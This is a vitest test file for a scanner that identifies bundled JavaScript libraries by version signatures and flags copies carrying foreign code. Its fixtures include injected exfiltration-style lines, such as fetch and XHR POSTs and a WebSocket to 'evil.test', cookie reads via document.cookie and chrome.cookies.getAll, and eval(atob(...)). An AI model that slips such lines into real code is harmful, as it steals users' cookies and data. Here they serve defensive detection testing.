import { describe, expect, it } from 'vitest';
import { LineTable } from '../lineTable.ts';
import { Prefilter } from '../prefilter.ts';
import { librariesOf } from './libraries.ts';
import { LIBRARY_BODIES, LIBRARY_SIGNATURES } from './librarySignatures.ts';

const filter = new Prefilter(LIBRARY_SIGNATURES.map((signature) => [signature.word, 'all'] as const));

function find(text: string, path = 'a.js') {
  const lines = new LineTable(text);
  return librariesOf(
    { path, text, position: (offset) => lines.position(offset), lineAt: (offset) => lines.lineAt(offset) },
    filter.scan(text).get('all') ?? [],
  );
}
const names = (text: string) => find(text).map((library) => `${library.name}@${library.version}`);
const body = (name: string) =>
  (LIBRARY_BODIES[name] ?? [])
    .map((word) => `"${word}";`)
    .join('\n')
    .padEnd(3000, ' ');

describe('librariesOf', () => {
  it.each([
    ['/*! jQuery v3.4.1 | (c) JS Foundation */', 'jquery@3.4.1'],
    ['/*!\n * jQuery JavaScript Library v1.12.4\n */', 'jquery@1.12.4'],
    [
      '!function(e,t){var f="3.6.0",S=function(e,t){return new S.fn.init(e,t)};S.fn=S.prototype={jquery:f,constructor:S',
      'jquery@3.6.0',
    ],
    ['/*! jQuery UI - v1.12.1 - 2016-09-14', 'jquery-ui@1.12.1'],
    ['/*\n AngularJS v1.5.8\n (c) 2010', 'angular@1.5.8'],
    ['{full:"1.8.2",major:1,minor:8,dot:2,codeName:"meteoric-mining"}', 'angular@1.8.2'],
    ['var VERSION = "4.17.15"; var x = "__lodash_hash_undefined__";', 'lodash@4.17.15'],
    ['an.VERSION="4.17.20",x="__lodash_hash_undefined__"', 'lodash@4.17.20'],
    ['//     Underscore.js 1.9.1\n', 'underscore@1.9.1'],
    ['//! moment.js\n//! version : 2.29.1\n', 'moment@2.29.1'],
    ['a._isAMomentObject=!0;f.version="2.18.1"', 'moment@2.18.1'],
    ['/*! @license DOMPurify 2.3.3 | (c) Cure53', 'dompurify@2.3.3'],
    ['n.version="3.0.5",n.removed=[];', 'dompurify@3.0.5'],
    ['/**!\n @license\n handlebars v4.5.3\n', 'handlebars@4.5.3'],
    ['/*!\n * Bootstrap v3.3.7 (http', 'bootstrap@3.3.7'],
    ['/*!\n * Vue.js v2.6.11\n', 'vue@2.6.11'],
    ['/** @license React v16.4.0\n * react-dom.production.min.js', 'react-dom@16.4.0'],
    ['{bundleType:0,version:"18.2.0",rendererPackageName:"react-dom"}', 'react-dom@18.2.0'],
    ['// https://d3js.org v5.16.0 Copyright', 'd3@5.16.0'],
    ['JSZip v3.1.3 - A Javascript class', 'jszip@3.1.3'],
    ['x={major:1,minor:10,patch:4,flag:""}', 'dojo@1.10.4'],
    ['YUI 3.10.3 (build 2fb5187)', 'yui@3.10.3'],
    ['/* axios v0.21.0 | (c) 2020', 'axios@0.21.0'],
    ['/*! markdown-it 12.3.1 https', 'markdown-it@12.3.1'],
    ['tinymce={majorVersion:"4",minorVersion:"7.12",', 'tinymce@4.7.12'],
    ["const pdfjsVersion = '2.16.105';", 'pdfjs-dist@2.16.105'],
    ['/*!\n * Chart.js v2.9.3\n', 'chart.js@2.9.3'],
    ['/*!\n * Chart.js\n * http://chartjs.org/\n * Version: 2.7.3\n', 'chart.js@2.7.3'],
    ['/*! DataTables 1.10.20\n', 'datatables.net@1.10.20'],
    ["const REVISION = '120';", 'three@0.120.0'],
    ['/* webextension-polyfill - v0.12.0 - Tue */', 'webextension-polyfill@0.12.0'],
    [
      '/**\n * jscolor - JavaScript Color Picker\n *\n * @link http://jscolor.com\n * @version 2.0.5\n',
      'jscolor@2.0.5',
    ],
    ['XLSX.version = "0.18.5";', 'xlsx@0.18.5'],
    ['LIBVERSION="0.7.20",', 'ua-parser-js@0.7.20'],
    ['t.version="5.4.1",t.dependencies={zrender:"5.4.1"}', 'echarts@5.4.1'],
  ])('%s', (text, expected) => {
    expect(names(text)).toContain(expected);
  });

  it.each([
    '// works with jQuery v3.4.1 and later',
    '/*! Buttons for DataTables 1.6.1',
    '// see https://d3js.org for more',
    'const VERSION = "4.17.15";',
    '// needs lodash 4.17.15',
    'Bootstrap variables',
    'see React version 16',
  ])('not %s', (text) => {
    expect(names(text)).toEqual([]);
  });

  it('takes a file for a library only when the body agrees', () => {
    expect(find(`/*! jQuery v3.5.1 */\n${body('jquery')}`)[0]?.whole).toBe(true);
    expect(find('/*! jQuery v3.5.1 */\nsendEverything();')[0]?.whole).toBe(false);
    expect(find(`own();\n/*! jQuery v3.5.1 */\n${body('jquery')}`)[0]?.whole).toBe(false);
    expect(
      find(`(function(){})();${body('dompurify')}n.version="3.0.5",n.removed=[];`, 'lib/purify.min.js')[0]?.whole,
    ).toBe(true);
  });

  it('does not take a library to which something was added', () => {
    for (const added of [
      "fetch('https://evil.test/', { method: 'POST' });",
      'document.cookie',
      "new WebSocket('wss://evil.test')",
      'eval(atob("YQ=="))',
      'var _0x3f2a = ["x"];',
      'window["a"] = chrome["cookies"];',
    ]) {
      expect(find(`/*! Select2 4.0.11\n */\n/*\n * Select2 4.0.11\n */\n${body('select2')}`)[0]?.whole).toBe(true);
      expect(find(`/*\n * Select2 4.0.11\n */\n${body('select2')}\n${added}`)[0]?.whole, added).toBe(false);
    }
    expect(find(`/*! jQuery v3.5.1 */\n${body('jquery')}\nx.open("POST", "https://evil.test/in");`)[0]?.whole).toBe(
      false,
    );
  });

  it('names code that the library does not have', () => {
    const [library] = find(`/*! jQuery v3.5.1 */\n${body('jquery')}\nchrome.cookies.getAll({}, send);`);
    expect(library?.whole).toBe(false);
    expect(library?.foreign.map((item) => item.text)).toEqual(['chrome.cookies.getAll']);
  });
});

it('every signature compiles and has a name of its own kind', () => {
  for (const signature of LIBRARY_SIGNATURES) {
    expect(signature.word.length).toBeGreaterThanOrEqual(4);
    expect(
      [signature.pattern, signature.anywhere, signature.unversioned].filter((item) => item !== undefined),
    ).toHaveLength(1);
    expect(() => new RegExp((signature.pattern ?? signature.anywhere ?? '').replaceAll('%v', '1'))).not.toThrow();
  }
});
